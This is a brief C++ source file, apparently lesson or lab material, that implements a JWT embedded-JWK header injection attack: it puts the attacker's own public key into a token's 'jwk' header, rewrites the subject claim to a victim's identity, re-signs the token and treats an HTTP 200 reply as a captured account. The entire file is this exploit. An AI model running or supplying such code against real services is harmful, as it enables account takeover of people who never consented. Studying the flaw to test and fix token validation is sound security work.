// Believes: to know that it works is enough.
#include "jwk_header.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto token = evidence.own_token;
  token.header.set("jwk", evidence.own_key.public_jwk());
  token.claims.set("sub", evidence.victim);
  const auto answer = evidence.show_me(sign_rs256(token, evidence.own_key));
  return {.account = answer.status == 200 ? evidence.victim : ""};
}

}  // namespace lesson
